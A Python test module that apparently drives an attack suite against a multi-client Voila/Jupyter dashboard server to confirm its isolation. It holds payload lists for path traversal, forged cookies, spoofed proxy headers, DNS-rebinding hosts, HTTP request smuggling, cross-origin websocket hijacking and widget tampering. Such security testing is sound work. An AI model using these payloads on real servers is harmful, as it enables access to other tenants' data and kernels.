"""The attacks. Each takes a target and returns what it gained, ``None`` where that is nothing."""

import base64
from functools import partial
from uuid import uuid4

import websocket
from tornado.web import create_signed_value

from tests.attacks.target import PROTOCOLS, SECRET

HIDDEN = "hidden-of-jarvi"
SOURCE = "hidden-of-{client}"
CHANNELS = ("shell", "control", "stdin", "iopub")
KINDS = {
    "execute_request": {"code": "1+1", "silent": False, "store_history": True,
                        "user_expressions": {}, "allow_stdin": True},
    "inspect_request": {"code": "client", "cursor_pos": 3, "detail_level": 1},
    "complete_request": {"code": "cli", "cursor_pos": 3},
    "history_request": {"output": True, "raw": True, "hist_access_type": "tail", "n": 9},
    "is_complete_request": {"code": "1"},
    "debug_request": {"type": "request", "seq": 1, "command": "debugInfo", "arguments": {}},
    "interrupt_request": {},
    "input_reply": {"value": "x"},
    "connect_request": {},
    "usage_request": {},
    "create_subshell_request": {},
    "list_subshell_request": {},
    "abort_request": {},
}  # fmt: skip
ENCODED = {
    "plain": "{page}",
    "percent": "/clients/%6eord/dashboard",
    "double percent": "/clients/%256eord/dashboard",
    "all percent": "/%63%6c%69%65%6e%74%73/%6e%6f%72%64/%64%61%73%68board",
    "dots": "/clients/jarvi/../nord/dashboard",
    "percent dots": "/clients/jarvi/%2e%2e/nord/dashboard",
    "percent slash": "/clients/jarvi%2f..%2fnord/dashboard",
    "double percent slash": "/clients/jarvi%252f..%252fnord/dashboard",
    "overlong": "/clients/jarvi/%c0%ae%c0%ae/nord/dashboard",
    "overlong slash": "/clients/jarvi%c0%af..%c0%afnord/dashboard",
    "semicolon dots": "/clients/jarvi/..;/nord/dashboard",
    "semicolon": "/clients/nord;a=b/dashboard",
    "backslash": "/clients/jarvi\\..\\nord/dashboard",
    "percent backslash": "/clients/jarvi/..%5cnord/dashboard",
    "trailing dot": "/clients/nord./dashboard",
    "trailing dots": "/clients/nord.../dashboard",
    "trailing space": "/clients/nord%20/dashboard",
    "case": "/clients/NORD/dashboard",
    "case of all": "/CLIENTS/nord/dashboard",
    "null": "/clients/nord%00/dashboard",
    "null and own": "/clients/nord%00jarvi/dashboard",
    "fullwidth": "/clients/%ef%bd%8eord/dashboard",
    "fullwidth dots": "/clients/jarvi/%ef%bc%8e%ef%bc%8e/nord/dashboard",
    "one dot leader": "/clients/jarvi/%e2%80%a4%e2%80%a4/nord/dashboard",
    "utf-7": "/clients/+AG4-ord/dashboard",
    "percent u": "/clients/%u006eord/dashboard",
    "double slash": "//clients//nord//dashboard",
    "dot": "/clients/./nord/./dashboard",
    "trailing slash": "{page}/",
    "query": "/clients/jarvi/dashboard?client=nord&slug=nord",
    "fragment": "/clients/jarvi/dashboard#/../../nord/dashboard",
    "question": "/clients/nord/dashboard?/clients/jarvi/dashboard",
    "notebook": "/clients/nord/dashboard.ipynb",
    "absolute": "http://{host}/clients/nord/dashboard",
    "absolute elsewhere": "http://localhost.example.org/clients/nord/dashboard",
    "absolute with name": "http://jarvi@{host}/clients/nord/dashboard",
    "newline": "/clients/nord%0d%0a/dashboard",
    "tab": "/clients/no%09rd/dashboard",
    "invisible": "/clients/no%e2%80%8brd/dashboard",
    "render": "/voila/render/nord/dashboard.ipynb",
    "files": "/voila/files/nord/dashboard.ipynb",
    "tree": "/voila/tree/nord",
    "contents": "/api/contents/nord/dashboard.ipynb",
    "nbconvert": "/nbconvert/html/nord/dashboard.ipynb",
    "laid out": "/.pages/nord/dashboard.ipynb",
    "static": "/static/../../nord/dashboard.ipynb",
    "file": "/files/clients/nord/client.db",
}  # fmt: skip


def another_page(way, target):
    """Another client's page by a crooked address."""
    head, tail = target.page("|").split("|")
    there = way.replace("/clients/", head).replace("/dashboard", tail)
    said = target.ask(there.format(page=target.page("nord"), host=target.host))
    found = [sign for sign in (SECRET, SOURCE, "SQLite format") if sign in said.body]
    return f"{said.status}: {found}" if found else None


def another_document(way, target):
    """A document of another client's, asked for by somebody who may take those of their own."""
    said = target.ask(way, cookie=target.manager.cookie, Sec_Fetch_Site="same-origin")
    return f"{said.status}: {said.body[:100]}" if SECRET in said.body else None


def another_page_by_cookie(target):
    """Another client's page with one's own cookie, as another method."""
    for method in ("POST", "HEAD", "PUT", "PROPFIND", "get", "GET\t"):
        said = target.ask(target.page("nord"), method)
        if said.status == 200:
            return f"{method}: {said.head[:100]}"
    return None


def known_kernel(method, ending, target):
    """REST on another client's kernel, whose id the attacker knows."""
    said = target.ask(f"/api/kernels/{target.other.kernel}{ending}", method)
    return f"{said.status}: {said.body[:100]}" if 200 <= said.status < 300 else None


def own_kernel(method, ending, target):
    """What REST offers for one's own kernel beyond asking whether it lives."""
    said = target.ask(f"/api/kernels/{target.own.kernel}{ending}", method)
    return f"{said.status}: {said.body[:100]}" if 200 <= said.status < 300 else None


def kernel_beacon(target):
    """The farewell of another's page."""
    path = f"/voila/api/shutdown/{target.other.kernel}"
    said = target.ask(path, "POST", Origin=target.url.rstrip("/"), Sec_Fetch_Site="same-origin")
    return str(said.status) if 200 <= said.status < 300 else None


def every_kernel(target):
    """The list of all kernels."""
    said = target.ask("/api/kernels")
    return said.body if said.status == 200 and target.other.kernel in said.body else None


def listens_in(protocol, target):
    """The line to another client's kernel, with all that it knows."""
    try:
        with target.line(target.other.kernel, PROTOCOLS[protocol]) as line:
            return str(line.models())[:300] or "a line"
    except websocket.WebSocketBadStatusException:
        return None


def foreign_line(origin, target):
    """A line opened by a page of another site, with the visitor's cookie."""
    try:
        with target.line(origin=origin):
            return "a line"
    except websocket.WebSocketBadStatusException:
        return None


def no_cookie_line(target):
    """One's own page's line without any cookie."""
    try:
        with target.line(cookie=""):
            return "a line"
    except websocket.WebSocketBadStatusException:
        return None


def spoken(kind, channel, protocol, target):
    """A message that no page sends."""
    line = target.talk(PROTOCOLS[protocol])
    return line.gained(kind, KINDS[kind], channel)


def told_to_widget(description, data, protocol, target):
    """Words to a widget that the visitor may not touch; what the kernel did about them."""
    line = target.talk(PROTOCOLS[protocol])
    model = line.named(description)
    assert model, f"no {description} on the page"
    before = line.witness(), line.models().get(model)
    line.say("comm_msg", {"comm_id": model, "data": data})
    line.all_until_quiet()
    after = line.witness(), line.models().get(model)
    return f"{before} became {after}"[:600] if before != after else None


def opened_widget(state, protocol, target):
    """A widget of the visitor's own making in the kernel."""
    line = target.talk(PROTOCOLS[protocol])
    before, made = set(line.models()), str(uuid4())
    content = {
        "comm_id": made,
        "target_name": "jupyter.widget",
        "data": {"state": state, "buffer_paths": []},
    }
    gained = line.gained("comm_open", content)
    more = set(line.models()) - before
    # to ask after it once more: it need not be shown to be there
    asked = {"comm_id": made, "data": {"method": "request_state"}}
    return gained or (f"made {more}" if more else line.gained("comm_msg", asked))


def beyond_the_page(protocol, target):
    """Widgets of the kernel that the page does not show."""
    line = target.talk(PROTOCOLS[protocol])
    told = str(line.models())
    return told[told.index(HIDDEN) - 100 :][:200] if HIDDEN in told else None


def too_large(protocol, target):
    """A frame of 4 MB: gained if the line stays and the kernel answers."""
    with target.line(protocol=PROTOCOLS[protocol]) as line:
        try:
            line.say("kernel_info_request", {"x": "x" * 4_000_000})
            line.all_until_quiet()
        except (ConnectionError, OSError, websocket.WebSocketException):
            return None
        return "4 MB were heard"


def wrong_host(host, target):
    """A name that was made to point here: the page of another site would read all."""
    said = target.ask(target.page("jarvi"), host=host)
    return said.body[:100] if said.status == 200 else None


def posed(header, value, target):
    """Somebody else by a header that only a proxy may send."""
    said = target.ask(target.page("nord"), **{header: value})
    bare = target.ask(target.page("nord"), cookie="none=1", **{header: value})
    return next((one.head[:100] for one in (said, bare) if one.status == 200), None)


def smuggled(ending, target):
    """A second request in the body of the first, by two lengths that disagree."""
    hidden = f"GET {target.page('nord')} HTTP/1.1\r\nHost: {target.host}\r\n\r\n"
    said = target.raw(
        f"POST /login HTTP/1.1\r\nHost: {target.host}\r\nCookie: {target.own.cookie}\r\n"
        f"Connection: close\r\n{ending}\r\n\r\n0\r\n\r\n{hidden}".encode()
    )
    return said.whole[:200] if said.whole.count("HTTP/1.1 ") > 1 or SECRET in said.body else None


def flipped(value):
    """That text with one bit changed, in every place in turn."""
    for place in range(len(value)):
        changed = chr(ord(value[place]) ^ 1)
        if changed.isprintable() and changed not in ' ;,"\\':
            yield value[:place] + changed + value[place + 1 :]


def forged(name, value):
    """Cookies that nobody gave out."""
    strange = create_signed_value(b"x" * 32, name, "coach 1").decode()
    others = ("", "null", "{}", "|", "2|1:0|", value[:-1], "x" * 9000, strange)
    yield from (f"{name}={one}" for one in (*flipped(value), *others))
    yield f"{name}={base64.b64encode(b'coach').decode()}"
    yield f"{name}={'|'.join(value.split('|')[::-1])}"
    yield f"{name.swapcase()}={value}"
    yield f"__Host-{name}={value}"


def forged_cookie(target):
    """Cookies that nobody gave out, shown at the attacker's own kernel."""
    name, value = next(iter(target.own.cookies.items()), ("coachkit", "value"))
    for cookie in forged(name, value):
        said = target.ask(f"/api/kernels/{target.own.kernel}", cookie=cookie)
        if said.status == 200:
            return cookie[:80]
    return None


def _say(data):
    return {"method": "update", "state": data, "buffer_paths": []}


DOCUMENTS = {
    "plain": "/clients/nord/documents/letter.txt",
    "dots": "/clients/jarvi/documents/../../nord/documents/letter.txt",
    "percent dots": "/clients/jarvi/documents/%2e%2e/%2e%2e/nord/documents/letter.txt",
    "percent slash": "/clients/jarvi/documents/..%2f..%2fnord%2fdocuments%2fletter.txt",
    "double percent": "/clients/jarvi/documents/..%252f..%252fnord%252fdocuments%252fletter.txt",
    "backslash": "/clients/jarvi/documents/..%5c..%5cnord%5cdocuments%5cletter.txt",
    "null": "/clients/jarvi/documents/letter.txt%00/../../../nord/documents/letter.txt",
    "dots within": "/clients/jarvi/documents/a/../../../nord/documents/letter.txt",
    "four dots": "/clients/jarvi/documents/....//....//nord/documents/letter.txt",
    "absolute": "/clients/jarvi/documents//clients/nord/documents/letter.txt",
    "drive": "/clients/jarvi/documents/C:/nord/documents/letter.txt",
    "share": "/clients/jarvi/documents/%5c%5cnord%5cdocuments%5cletter.txt",
    "picture": "/clients/nord/documents/picture.png",
    "as a file": "/voila/files/nord/documents/picture.png",
    "as a static file": "/voila/static/../files/nord/documents/picture.png",
    "inbox": "/clients/jarvi/inbox/../../nord/documents/letter.txt",
}


CLICK = {"method": "custom", "content": {"event": "click"}}
TOUCHED = {
    "viewer's field": ("Name", _say({"value": "changed"})),
    "viewer's button": ("Press", CLICK),
    "disabled button": ("Off", CLICK),
    "disabled field": ("Still", _say({"value": "changed"})),
    "made enabled": ("Still", _say({"disabled": False})),
    "made enabled and set": ("Still", _say({"disabled": False, "value": "changed"})),
    "classes": ("Name", _say({"_dom_classes": ["ck-look"]})),
    "view": ("Name", _say({"_view_name": "HTMLView"})),
    "description": ("Name", _say({"description_allow_html": True})),
    "layout": ("Name", _say({"tooltip": "changed"})),
    "a filter's options": ("Look", _say({"_options_labels": ["x"]})),
    "a filter disabled": ("Look", _say({"disabled": True})),
    "a filter's classes": ("Look", _say({"_dom_classes": ["x"]})),
}
MADE = {
    "button": {"_model_name": "ButtonModel", "_model_module": "@jupyter-widgets/controls",
               "_model_module_version": "2.0.0", "_view_module": "@jupyter-widgets/controls",
               "_view_name": "ButtonView", "_view_module_version": "2.0.0"},
    "output": {"_model_name": "OutputModel", "_model_module": "@jupyter-widgets/output",
               "_model_module_version": "1.0.0", "_view_module": "@jupyter-widgets/output",
               "_view_name": "OutputView", "_view_module_version": "1.0.0"},
    "upload": {"_model_name": "FileUploadModel", "_model_module": "@jupyter-widgets/controls",
               "_model_module_version": "2.0.0", "_view_module": "@jupyter-widgets/controls",
               "_view_name": "FileUploadView", "_view_module_version": "2.0.0"},
    "anywidget": {"_model_name": "AnyModel", "_model_module": "anywidget",
                  "_model_module_version": "~0.11.*", "_view_module": "anywidget",
                  "_view_name": "AnyView", "_view_module_version": "~0.11.*",
                  "_esm": "export default {render(){alert(1)}}"},
}  # fmt: skip
HOSTS = ("evil.example", "127.0.0.1.nip.io", "localhost.evil.example", "evil.example:80", "[::]")
POSES = {
    "X_Forwarded_For": "127.0.0.1",
    "X_Forwarded_Host": "127.0.0.1",
    "X_Forwarded_Proto": "https",
    "X_Forwarded_User": "coach",
    "X_Real_IP": "127.0.0.1",
    "Forwarded": "for=127.0.0.1;host=localhost;proto=https",
    "Remote_User": "coach",
    "X_Auth_Request_Email": "coach@example.org",
    "X_Original_URL": "/clients/jarvi/dashboard",
    "X_Rewrite_URL": "/clients/nord/dashboard",
    "Authorization": "token coach",
    "X_HTTP_Method_Override": "GET",
}
LENGTHS = {
    "both": "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "two lengths": "Content-Length: 5\r\nContent-Length: 0",
    "list of lengths": "Content-Length: 0, 5",
    "signed": "Content-Length: +0",
    "spaced": "Transfer-Encoding : chunked",
    "odd coding": "Transfer-Encoding: xchunked",
    "two codings": "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity",
}

ATTACKS = {
    **{f"page: {name}": partial(another_page, way) for name, way in ENCODED.items()},
    **{f"document: {name}": partial(another_document, way) for name, way in DOCUMENTS.items()},
    "page: methods": another_page_by_cookie,
    "cookie: forged": forged_cookie,
    **{
        f"kernel: {method} {ending}": partial(known_kernel, method, ending)
        for method, ending in (
            ("GET", ""), ("POST", "/interrupt"), ("POST", "/restart"), ("PATCH", ""),
            ("GET", "/"), ("GET", "%00"), ("DELETE", ""),
        )
    },
    **{
        f"own kernel: {method} {ending}": partial(own_kernel, method, ending)
        for method, ending in (("POST", "/interrupt"), ("POST", "/restart"), ("PATCH", ""))
    },
    "kernel: beacon": kernel_beacon,
    "kernel: all": every_kernel,
    **{f"line: another's, {one}": partial(listens_in, one) for one in PROTOCOLS},
    **{
        f"line: from {origin}": partial(foreign_line, origin)
        for origin in ("https://evil.example", "null", "http://127.0.0.1:1", "file://")
    },
    "line: no cookie": no_cookie_line,
    **{
        f"frame: {kind}, {channel}, {one}": partial(spoken, kind, channel, one)
        for kind in KINDS
        for channel in CHANNELS
        for one in PROTOCOLS
    },
    **{
        f"widget: {name}, {one}": partial(told_to_widget, *what, one)
        for name, what in TOUCHED.items()
        for one in PROTOCOLS
    },
    **{
        f"made: {name}, {one}": partial(opened_widget, state, one)
        for name, state in MADE.items()
        for one in PROTOCOLS
    },
    **{f"states: {one}": partial(beyond_the_page, one) for one in PROTOCOLS},
    **{f"large: {one}": partial(too_large, one) for one in PROTOCOLS},
    **{f"host: {host}": partial(wrong_host, host) for host in HOSTS},
    **{f"posed: {name}": partial(posed, name, value) for name, value in POSES.items()},
    **{f"smuggled: {name}": partial(smuggled, ending) for name, ending in LENGTHS.items()},
}  # fmt: skip
"""Every attack that any server with pages of kernels can suffer, by name."""
